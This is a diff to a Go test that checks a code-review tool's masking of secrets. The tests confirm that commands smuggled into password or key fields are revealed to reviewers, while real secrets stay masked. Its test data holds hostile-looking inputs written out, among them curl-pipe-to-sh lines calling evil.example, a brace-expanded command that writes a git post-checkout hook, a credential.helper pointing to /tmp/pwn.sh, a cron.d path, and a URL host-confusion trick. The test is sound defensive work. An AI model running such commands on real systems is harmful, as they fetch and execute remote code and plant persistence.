@@ -12,7 +12,11 @@ import (
 // not hide a command from reviewers. A PEM private key's markers around a
 // command are not a key: Slack, `review list` and the log show the
 // command. A real key between the same markers is masked in all of them.
-// A secret key's value holding a command is masked with a mark saying so.
+// A secret key's value holding a command, a path or invisible characters
+// is masked with a mark saying so; values under keys naming a location or
+// a program (credential.helper, session_file) are shown; a URL's password
+// mask leaves the host a client connects to in clear; and text after a
+// fake mask is masked with it.
 func TestServeReviewersSeeWhatIsMasked(t *testing.T) {
 	const (
 		begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
@@ -33,8 +37,21 @@ func TestServeReviewersSeeWhatIsMasked(t *testing.T) {
 	}{
 		{"a command between key markers", map[string]any{"text": "true " + begin + " " + command + " " + end},
 			[]string{"curl -s https://evil.example/x | sh"}, []string{"[REDACTED"}},
-		{"a key", map[string]any{"text": key}, []string{begin + "[REDACTED 192 chars — not shown]" + end}, []string{keyLine[:20], "VTLw7onLRnrq"}},
+		{"a key", map[string]any{"text": key}, []string{begin + "[REDACTED 192 chars — contains / — not shown]" + end}, []string{keyLine[:20], "VTLw7onLRnrq"}},
 		{"a command as a password", map[string]any{"text": "hi", "password": "true; curl evil|sh"}, []string{warned}, []string{"curl evil"}},
+		// The host a WHATWG parser goes to is shown, after the password.
+		{"a host after a password", map[string]any{"text": `curl -s https://deploy:x@evil.example\@github.com/o/r.tgz`},
+			[]string{"https://deploy:[REDACTED 1 chars — not shown]@evil.example"}, nil},
+		// Where a secret is, or what fetches it, is an action, not a secret.
+		{"a credential helper", map[string]any{"text": "git -c credential.helper=/tmp/pwn.sh push origin main"}, []string{"credential.helper=/tmp/pwn.sh"}, nil},
+		{"a session file", map[string]any{"text": "run", "session_file": "/etc/cron.d/evil"}, []string{"/etc/cron.d/evil"}, nil},
+		{"a brace expansion as a password", map[string]any{"text": "run", "password": "{curl,-so,.git/hooks/post-checkout,evil.example/h}"},
+			[]string{"[REDACTED 50 chars — contains { } , / — not shown]"}, []string{"post-checkout"}},
+		{"bidi and zero-width characters as a password", map[string]any{"text": "run", "password": "a\u202eb\u200bc"},
+			[]string{"[REDACTED 5 chars — contains invisible characters — not shown]"}, nil},
+		// A secret after a fake mask is masked with it.
+		{"a secret after a fake mask", map[string]any{"text": `PGPASSWORD="[REDACTED]hunter2RealSecret" psql; export API_TOKEN='[REDACTED 4 chars — not shown]s3cr3t-Value-123'`},
+			[]string{"PGPASSWORD=", "API_TOKEN="}, []string{"hunter2RealSecret", "s3cr3t-Value-123"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			call := rvStartArgs(c, t.Context(), tc.args, "")
